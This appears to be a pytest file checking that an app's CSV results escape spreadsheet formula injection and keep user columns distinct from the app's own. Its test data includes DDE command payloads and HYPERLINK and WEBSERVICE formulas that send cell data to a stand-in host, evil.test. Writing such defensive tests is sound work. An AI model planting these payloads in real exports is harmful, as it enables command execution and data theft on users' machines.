"""The results file opened in a spreadsheet: no cell the app writes is a live formula (the header, the person's own
cells from a CSV or an .xlsx, the model's words), each escaped cell still holds the person's value after one leading
apostrophe, and the app's own columns never take the name of one of the person's."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from app.routine.plan import RoutinePlan, plan_routine
from app.routine.results import RESULT_COLUMNS, result_columns, write_results
from app.routine.rows import RowsError
from app.routine.state import RoutineStore
from app.routine.types import RoutineOptions, RowOutcome, RowStatus
from app.ui.routine.library import earlier_outcomes

# What a spreadsheet (Excel, LibreOffice, Google Sheets) reads as the start of a formula, before and after the
# blanks it may skip: spaces, a no-break space, an ideographic space, a zero-width space, a byte-order mark.
HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000\u2003+1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",  # a full-width equals sign, which East Asian Excel reads as "="
    "\n=1+1",
)
_BLANKS = "\u200b\u200c\u200d\u2060\ufeff"


def live(cell: str) -> bool:
    """Whether a spreadsheet would start a formula (or a DDE call) from this cell."""
    if cell.startswith(("\t", "\r")):
        return True
    rest = cell.lstrip().lstrip(_BLANKS).lstrip()
    return rest.startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"))


def read_back(path: Path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def finish_first_row(plan: RoutinePlan, outcome: RowOutcome) -> Path:
    results = plan.options.results_path()
    store = RoutineStore.open(results)
    try:
        store.finish(plan.keys[0], 1, outcome)
        write_results(results, plan.table, plan.keys, store.records(), [], list(plan.options.output_columns))
    finally:
        store.close()
    return results


def test_a_hostile_csv_and_hostile_answers_give_no_live_formula_and_keep_every_value(tmp_path: Path) -> None:
    rows = tmp_path / "rows.csv"
    with rows.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["name", "=evil()", " @note"])
        for cell in HOSTILE:
            writer.writerow(["Ana", cell, cell])
        writer.writerow(["Bo", "-12.50", "+44"])  # a sign is escaped too: a number is whole after the apostrophe
    plan = plan_routine(RoutineOptions(rows_file=rows, template="Add {name}", output_columns=("id",)))
    results = finish_first_row(
        plan,
        RowOutcome(
            RowStatus.DONE, '\u00a0=WEBSERVICE("http://evil.test")', browser="=cmd|' /C calc'!A0", outputs={"id": " @1"}
        ),
    )

    table = read_back(results)

    assert [cell for line in table for cell in line if live(cell)] == []
    header = table[0]
    assert header == ["name", "'=evil()", "'@note", *RESULT_COLUMNS, "id"]
    for line, cell in zip(table[1:], HOSTILE, strict=False):
        # The person's value, whole, after one apostrophe (OWASP's advice; a spreadsheet shows the text as text).
        assert line[1] == line[2] == "'" + cell
    first = table[1]
    assert first[3:5] == ["done", '\'\u00a0=WEBSERVICE("http://evil.test")']
    assert first[8] == "'=cmd|' /C calc'!A0" and first[-1] == "' @1"
    assert table[-1][:3] == ["Bo", "'-12.50", "'+44"]


def test_an_xlsx_whose_text_cells_look_like_formulas_gives_no_live_formula(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["name", "link"])
    sheet.append(["Ana", "x"])
    sheet.append(["Bo", "x"])
    # Text cells (not formulas) that start like one: what a site export or a pasted value leaves in a workbook.
    for where, text in (("A1", "@head"), ("B2", '=HYPERLINK("http://evil.test","Click")'), ("B3", " -1+cmd|'x'!A0")):
        sheet[where].value = text
        sheet[where].data_type = "s"
    path = tmp_path / "rows.xlsx"
    book.save(path)
    plan = plan_routine(RoutineOptions(rows_file=path, template="Add {@head}"))
    assert plan.table.rows[0].values["link"].startswith("=HYPERLINK")  # read as the text it is

    table = read_back(finish_first_row(plan, RowOutcome(RowStatus.DONE, "ok")))

    assert [cell for line in table for cell in line if live(cell)] == []
    assert table[0][:2] == ["'@head", "link"]
    assert table[1][1] == '\'=HYPERLINK("http://evil.test","Click")' and table[2][1] == "' -1+cmd|'x'!A0"


def test_input_columns_named_like_the_results_own_leave_the_persons_columns_as_they_are(tmp_path: Path) -> None:
    rows = tmp_path / "rows.csv"
    rows.write_text("name,Status,run\nAna,VIP,weekly\nBo,new,daily\n", encoding="utf-8")
    plan = plan_routine(RoutineOptions(rows_file=rows, template="Add {name}"))
    names = result_columns(plan.table)
    assert names == tuple(f"page_agent_{name}" for name in RESULT_COLUMNS)

    results = finish_first_row(plan, RowOutcome(RowStatus.FAILED, "The site refused it.", run="r-1"))
    table = read_back(results)

    assert table[0] == ["name", "Status", "run", *names]
    assert len(set(table[0])) == len(table[0])
    line = dict(zip(table[0], table[1], strict=True))
    assert (line["Status"], line["run"]) == ("VIP", "weekly")
    assert (line["page_agent_status"], line["page_agent_result"], line["page_agent_run"]) == (
        "failed",
        "The site refused it.",
        "r-1",
    )
    # What reads the file back (the panel's earlier outcomes) finds the app's columns, not the person's.
    assert earlier_outcomes(results, plan.table) == [("failed", "The site refused it."), ("", "")]


def test_without_a_clash_the_results_columns_keep_their_names(tmp_path: Path) -> None:
    rows = tmp_path / "rows.csv"
    rows.write_text("name,state\nAna,done\n", encoding="utf-8")
    plan = plan_routine(RoutineOptions(rows_file=rows, template="Add {name}"))
    assert result_columns(plan.table) == RESULT_COLUMNS
    results = finish_first_row(plan, RowOutcome(RowStatus.DONE, "Saved."))
    assert earlier_outcomes(results, plan.table) == [("done", "Saved.")]


def test_rows_whose_columns_clash_even_with_the_prefixed_names_are_refused_in_plain_words(tmp_path: Path) -> None:
    rows = tmp_path / "rows.csv"
    rows.write_text("name,status,page_agent_status\nAna,a,b\n", encoding="utf-8")
    with pytest.raises(RowsError) as refused:
        plan_routine(RoutineOptions(rows_file=rows, template="Add {name}"))
    assert str(refused.value) == (
        f'{rows} has columns named "status" and "page_agent_status", which the results file needs for its own '
        "columns; rename one of them."
    )


def test_the_panels_part_of_the_readme_explains_every_column_and_status_of_the_saved_results() -> None:
    # A panel user reads "Routines in the panel", not the command line's part: the machine words of the file they
    # saved (needs_person, window 2, a History id) are explained there.
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text(encoding="utf-8")
    panel = readme.split("### Routines in the panel", 1)[1].split("\n## ", 1)[0]
    statuses = [status for status in RowStatus if status is not RowStatus.RUNNING]  # never in a results file
    assert [name for name in (*RESULT_COLUMNS, *statuses) if f"`{name}`" not in panel] == []
    assert "`window 2`" in panel
